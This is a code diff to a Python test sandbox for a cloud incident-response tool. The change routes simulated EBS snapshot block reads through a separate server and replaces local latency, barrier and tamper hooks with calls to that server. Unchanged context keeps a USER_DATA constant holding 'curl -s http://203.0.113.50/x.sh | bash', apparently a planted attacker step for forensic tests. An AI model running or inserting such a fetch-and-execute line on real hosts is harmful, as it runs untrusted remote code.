@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import base64
-import hashlib
 import json
 import re
 import threading
@@ -15,7 +14,6 @@ from datetime import timedelta
 from pathlib import Path
 from typing import Any
 from unittest import mock
-from urllib.parse import parse_qs, urlsplit
 
 import boto3
 import botocore.handlers
@@ -25,7 +23,7 @@ from botocore.awsrequest import AWSResponse
 from botocore.exceptions import ConnectionClosedError
 from moto import mock_aws
 from moto.core.botocore_stubber import BotocoreStubber, MockRawResponse
-from moto.ebs.models import EBSSnapshot, ebs_backends
+from moto.ebs.models import ebs_backends
 from moto.ec2.exceptions import InvalidSnapshotIdError
 from moto.ec2.models.elastic_block_store import EBSBackend as Ec2EbsBackend
 from moto.iam.models import get_account_id_from
@@ -45,6 +43,7 @@ from moto_fixtures.aws_accounts import (
 from moto_fixtures.aws_flows import plant_beacon
 from moto_fixtures.clock import incident_clock, utc_now
 from moto_fixtures.cloudtrail import fake_cloudtrail, plant_attacker_trail, record_responder_calls
+from moto_fixtures.ebs_direct import block_checksum, ebs_direct_server
 from moto_fixtures.guard import sandbox_environment
 from moto_fixtures.logs_insights import STORE as INSIGHTS
 from moto_fixtures.sandbox import PlantedIncident
@@ -59,6 +58,7 @@ FORENSIC_REGION = "us-west-2"
 BLOCK = 512  # moto's EBS direct API block size
 TAG_CASE = "cloudir:case-id"
 _CREDENTIAL = re.compile(r"Credential=([^/]+)/[^/]+/([^/]+)/")  # access key and region of a SigV4 request
+_EBS_READS = frozenset({"ListSnapshotBlocks", "GetSnapshotBlock"})  # answered by the EBS direct server
 USER_DATA = b"#!/bin/bash\nyum install -y httpd\ncurl -s http://203.0.113.50/x.sh | bash\n"
 
 
@@ -66,21 +66,10 @@ USER_DATA = b"#!/bin/bash\nyum install -y httpd\ncurl -s http://203.0.113.50/x.s
 _MODEL_LOADER = botocore.loaders.create_loader()
 
 
-def block_checksum(data: bytes) -> str:
-    """The base64 SHA-256 the EBS direct APIs send with a block."""
-    return base64.b64encode(hashlib.sha256(data).digest()).decode()
-
-
 def _profile_parameter(request: dict[str, Any]) -> str:
     """The instance profile ARN (or name) of a serialized EC2 query request."""
     body = request.get("body") or {}
     return str(body.get("IamInstanceProfile.Arn") or body.get("IamInstanceProfile.Name") or "")
-
-
-def _ebs_error(request: Any, status: int, code: str, message: str) -> AWSResponse:
-    body = json.dumps({"message": message})
-    headers = {"x-amzn-ErrorType": code, "x-amzn-RequestId": str(uuid.uuid4())}
-    return AWSResponse(request.url, status, headers, MockRawResponse(body))
 
 
 class AwsSandbox:
@@ -104,20 +93,17 @@ class AwsSandbox:
         # A new instance profile is unknown to EC2 for this long (real accounts: several seconds).
         self.iam_propagation_seconds = 0.5
         self._new_profiles: dict[str, float] = {}  # profile name the tool created -> monotonic creation time
-        self.block_latency = 0.0  # seconds each GetSnapshotBlock takes (AWS's guide uses 100 ms as its example)
         # Seconds every other API call takes (its round trip, in the calling thread). While it is set, calls are
         # counted, and so are the sequential ones: those that start with no other call in flight (the critical path).
         self.call_latency = 0.0
         self.calls = 0
         self.sequential_calls = 0
         self._calls_in_flight = 0
-        self.block_reads_in_flight = 0
-        self.block_reads_peak = 0  # the most GetSnapshotBlock calls in flight at once
-        self.block_reads_window: list[float] = []  # monotonic times: the first read's start, the last read's end
-        # When set, each GetSnapshotBlock waits here until this many are in flight (a test of concurrency that does
-        # not depend on timing: too few readers in flight break the barrier and the reads fail).
-        self.block_barrier: threading.Barrier | None = None
-        self.blocks_read: list[str] = []  # the snapshot of every block read, in order
+        # EBS direct reads are served by a process of their own (moto_fixtures.ebs_direct) at AWS_ENDPOINT_URL_EBS
+        self.ebs_direct = ebs_direct_server()
+        self._known_keys: set[str] = set()  # access keys whose account the EBS direct server was told
+        self._blocks: dict[str, dict[int, bytes]] = {}  # snapshot id -> its blocks (what a copy of it holds)
+        self._block_latency = 0.0
         self._held: dict[str, Callable[[], bool]] = {}  # volume id -> its snapshots stay pending until this is true
         # EC2 is eventually consistent: a new snapshot is missing from DescribeSnapshots for this long (seconds)
         self.describe_lag_seconds = 0.0
@@ -128,7 +114,9 @@ class AwsSandbox:
     # -- lifecycle ------------------------------------------------------------------------------------------
     def __enter__(self) -> AwsSandbox:
         self._stack.enter_context(sandbox_environment())
-        self._stack.enter_context(mock.patch.dict("os.environ", {"MOTO_EC2_LOAD_DEFAULT_AMIS": "false"}))
+        self.ebs_direct.call("reset")
+        environment = {"MOTO_EC2_LOAD_DEFAULT_AMIS": "false", "AWS_ENDPOINT_URL_EBS": self.ebs_direct.url}
+        self._stack.enter_context(mock.patch.dict("os.environ", environment))
         self._stack.enter_context(mock_aws())
         self._stack.enter_context(fake_cloudtrail())
         INSIGHTS.reset()  # CloudWatch Logs Insights as documented (moto's own is partial)
@@ -178,12 +166,52 @@ class AwsSandbox:
         """Snapshots of ``volume_id`` taken from now on stay pending (unreadable) until ``until()`` is true."""
         self._held[volume_id] = until
 
-    def _register_blocks(self, backend: Any, snapshot: Any, blocks: dict[int, bytes]) -> None:
-        ebs_snapshot = EBSSnapshot(account_id=backend.account_id, snapshot=snapshot)
-        ebs_snapshot.status = snapshot.status
-        for index, data in blocks.items():
-            ebs_snapshot.put_block(index, data, block_checksum(data), "SHA256", len(data))
-        ebs_backends[backend.account_id][backend.region_name].snapshots[snapshot.id] = ebs_snapshot
+    @property
+    def block_latency(self) -> float:
+        """Seconds each GetSnapshotBlock takes (AWS's guide uses 100 ms as its example)."""
+        return float(self._block_latency)
+
+    @block_latency.setter
+    def block_latency(self, seconds: float) -> None:
+        self._block_latency = seconds
+        self.ebs_direct.call("latency", seconds)
+
+    def barrier_block_reads(self, parties: int, timeout: float = 30.0) -> None:
+        """Each GetSnapshotBlock waits until ``parties`` are in flight (a test of concurrency that does not depend on
+        timing: too few readers in flight time the barrier out and the reads fail)."""
+        self.ebs_direct.call("barrier", parties, timeout)
+
+    def _block_stats(self) -> dict[str, Any]:
+        stats: dict[str, Any] = self.ebs_direct.call("stats")
+        return stats
+
+    @property
+    def block_reads_peak(self) -> int:
+        """The most GetSnapshotBlock calls in flight at once."""
+        return int(self._block_stats()["peak"])
+
+    @property
+    def block_reads_window(self) -> list[float]:
+        """Monotonic times (of the server's clock): the first read's start, the last read's end."""
+        return list(self._block_stats()["window"])
+
+    @property
+    def blocks_read(self) -> list[str]:
+        """The snapshot of every block read, in order."""
+        return list(self._block_stats()["read"])
+
+    def clear_block_stats(self) -> None:
+        """Start counting the reads in flight, their window and the blocks read afresh."""
+        self.ebs_direct.call("clear-stats")
+
+    def _store_blocks(
+        self, owner: tuple[str, str], snapshot_id: str, status: str, gib: int, blocks: dict[int, bytes]
+    ) -> None:
+        """Give the EBS direct server a snapshot's blocks (``owner``: account, region), each with its checksum and a
+        block token."""
+        self._blocks[snapshot_id] = blocks
+        stored = {index: (data, block_checksum(data), uuid.uuid4().hex) for index, data in blocks.items()}
+        self.ebs_direct.call("snapshot", *owner, snapshot_id, status, gib, BLOCK, stored)
 
     def _wrap_create_snapshot(self) -> Any:
         original = Ec2EbsBackend.create_snapshot
@@ -194,7 +222,8 @@ class AwsSandbox:
             if volume_id in self._held:
                 snapshot.status = "pending"
             if volume_id in self.disks:
-                self._register_blocks(backend, snapshot, self.disks[volume_id])
+                owner = (backend.account_id, backend.region_name)
+                self._store_blocks(owner, snapshot.id, snapshot.status, snapshot.volume.size, self.disks[volume_id])
             return snapshot
 
         return create_snapshot
@@ -209,9 +238,8 @@ class AwsSandbox:
                 until = self._held.get(snapshot.volume.id)
                 if snapshot.status == "pending" and until is not None and until():
                     snapshot.status = "completed"
-                    direct = ebs_backends[backend.account_id][backend.region_name].snapshots.get(snapshot.id)
-                    if direct is not None:
-                        direct.status = "completed"
+                    if snapshot.volume.id in self.disks:
+                        self.ebs_direct.call("status", backend.region_name, snapshot.id, "completed")
             matches = original(backend, snapshot_ids, filters)
             seen = time.monotonic() - self.describe_lag_seconds
             lagging = {sid for sid, at in self._snapshot_created.items() if at > seen}
@@ -223,15 +251,19 @@ class AwsSandbox:
 
     def _wrap_copy_snapshot(self) -> Any:
         def register(backend: Any, copy: Any, account: str, region: str, source_id: str) -> None:
-            source = ebs_backends[account][region].snapshots.get(source_id)
-            if source is not None:
-                self._register_blocks(backend, copy, {i: b.block_data for i, b in source.blocks.items()})
+            if source_id in self._blocks:
+                blocks = self._blocks[source_id]
+                owner = (backend.account_id, backend.region_name)
+                self._store_blocks(owner, copy.id, copy.status, copy.volume.size, blocks)
 
         return cross_account_copy(Ec2EbsBackend.copy_snapshot, register)
 
     def direct_snapshot(self, blocks: dict[int, bytes]) -> str:
         """A 1 GiB snapshot written through StartSnapshot / PutSnapshotBlock / CompleteSnapshot with ``blocks``."""
-        ebs = self.client("ebs")
+        assert self.session is not None, "enter the sandbox first"
+        ebs = self.session.client(
+            "ebs", region_name=self.region, endpoint_url=f"https://ebs.{self.region}.amazonaws.com"
+        )
         snapshot_id: str = ebs.start_snapshot(VolumeSize=1, Description="direct")["SnapshotId"]
         for index, data in blocks.items():
             ebs.put_snapshot_block(
@@ -243,44 +275,15 @@ class AwsSandbox:
                 ChecksumAlgorithm="SHA256",
             )
         ebs.complete_snapshot(SnapshotId=snapshot_id, ChangedBlocksCount=len(blocks))
+        stored = ebs_backends[ACCOUNT][self.region].snapshots[snapshot_id].blocks
+        self._store_blocks(
+            (ACCOUNT, self.region), snapshot_id, "completed", 1, {i: b.block_data for i, b in stored.items()}
+        )
         return snapshot_id
 
     def corrupt_block(self, snapshot_id: str, index: int, region: str | None = None) -> None:
         """Make the EBS direct API send a wrong checksum for one block of a snapshot."""
-        block = ebs_backends[ACCOUNT][region or self.region].snapshots[snapshot_id].blocks[index]
-        block.checksum = block_checksum(block.block_data + b"tampered")
-
-    def _block_response(self, request: Any) -> AWSResponse:
-        """GetSnapshotBlock answered from the block as PutSnapshotBlock stored it (data, checksum, length).
-
-        moto routes each request through its URL tables, request parser and serializer (some 4 ms of CPU a read); a
-        block read is answered here from the stored block instead, so the read benchmark measures the latency model
-        and the client. Stricter than moto: a wrong block token and a snapshot not yet completed are refused.
-        """
-        url = urlsplit(request.url)
-        parts = url.path.split("/")  # /snapshots/{snapshotId}/blocks/{blockIndex}
-        credential = _CREDENTIAL.search(str(request.headers.get("Authorization", "")))
-        if len(parts) != 5 or credential is None:
-            return _ebs_error(request, 400, "ValidationException", "malformed GetSnapshotBlock request")
-        account, region = get_account_id_from(credential.group(1)), credential.group(2)
-        snapshot = ebs_backends[account][region].snapshots.get(parts[2])
-        block = snapshot.blocks.get(int(parts[4])) if snapshot is not None and parts[4].isdigit() else None
-        if snapshot is None or block is None:
-            return _ebs_error(request, 404, "ResourceNotFoundException", f"block {parts[4]} of {parts[2]} not found")
-        if parse_qs(url.query).get("blockToken") != [block.block_token]:
-            return _ebs_error(request, 400, "ValidationException", "The block token is not valid for this block")
-        if snapshot.status != "completed":
-            return _ebs_error(
-                request, 400, "ValidationException", f"snapshot {parts[2]} is {snapshot.status}, not completed"
-            )
-        self.blocks_read.append(parts[2])
-        headers = {
-            "x-amzn-RequestId": str(uuid.uuid4()),  # what custody and CloudTrail match the call by
-            "x-amz-Data-Length": str(block.data_length),
-            "x-amz-Checksum": block.checksum,
-            "x-amz-Checksum-Algorithm": block.checksum_algorithm,
-        }
-        return AWSResponse(request.url, 200, headers, MockRawResponse(block.block_data))
+        self.ebs_direct.call("tamper", region or self.region, snapshot_id, index)
 
     # -- failure injection at the botocore layer -----------------------------------------------------------
     @contextmanager
@@ -299,22 +302,6 @@ class AwsSandbox:
         created = self._new_profiles.get(_profile_parameter(params).rsplit("/", 1)[-1])
         return created is not None and time.monotonic() - created < self.iam_propagation_seconds
 
-    def _block_read_latency(self) -> None:
-        """One GetSnapshotBlock's round trip: ``block_latency`` seconds, counted while in flight."""
-        with self._in_flight_lock:
-            self.block_reads_in_flight += 1
-            self.block_reads_peak = max(self.block_reads_peak, self.block_reads_in_flight)
-            self.block_reads_window[:1] = self.block_reads_window[:1] or [time.monotonic()]
-        try:
-            if self.block_barrier is not None:
-                self.block_barrier.wait()
-            if self.block_latency:
-                time.sleep(self.block_latency)
-        finally:
-            with self._in_flight_lock:
-                self.block_reads_in_flight -= 1
-                self.block_reads_window[1:] = [time.monotonic()]
-
     def _call_latency(self) -> None:
         """One API call's round trip of ``call_latency`` seconds, counted (sequential when no other is in flight)."""
         with self._in_flight_lock:
@@ -329,9 +316,7 @@ class AwsSandbox:
 
     def _inject_failure(self, model: Any, params: dict[str, Any], **_: Any) -> Any:
         """A before-call handler: short-circuits a call armed by :meth:`fail_next` (or refused by IAM propagation)."""
-        if model.name == "GetSnapshotBlock":
-            self._block_read_latency()
-        elif self.call_latency:
+        if self.call_latency and model.name not in _EBS_READS:
             self._call_latency()
         error_code = self._failures.pop(model.name, None)
         user_agent = str((params.get("headers") or {}).get("User-Agent", ""))
@@ -373,6 +358,16 @@ class AwsSandbox:
         """The next ``times`` sends of ``operation`` run, then their response is lost (the connection closes)."""
         return self._armed(self._losses, operation, times)
 
+    def _tell_account(self, request: Any) -> None:
+        """Tell the EBS direct server the account of a request's access key (moto knows it, the server does not).
+
+        Readers in other processes use the credentials of the client that listed the blocks here first.
+        """
+        credential = _CREDENTIAL.search(str(request.headers.get("Authorization", "")))
+        if credential is not None and credential.group(1) not in self._known_keys:
+            self.ebs_direct.call("key", credential.group(1), get_account_id_from(credential.group(1)))
+            self._known_keys.add(credential.group(1))
+
     def _throttled_stubber(self) -> Any:
         """moto's request handler: a throttled send is refused unexecuted; a lost one runs and its answer is dropped."""
         original = BotocoreStubber.__call__
@@ -387,10 +382,10 @@ class AwsSandbox:
                     "</Message></Error></Errors><RequestID>sandbox-throttle</RequestID></Response>"
                 )
                 return AWSResponse(request.url, 503, {}, MockRawResponse(body))
-            if stubber.enabled and operation == "GetSnapshotBlock":
-                response: AWSResponse | None = self._block_response(request)
-            else:
-                response = original(stubber, event_name, request, **kwargs)
+            if stubber.enabled and operation in _EBS_READS:
+                self._tell_account(request)
+                return None  # sent on to the EBS direct server
+            response = original(stubber, event_name, request, **kwargs)
             if stubber.enabled and self._losses.get(operation, 0) > 0:
                 self._losses[operation] -= 1
                 self.lost.append(operation)
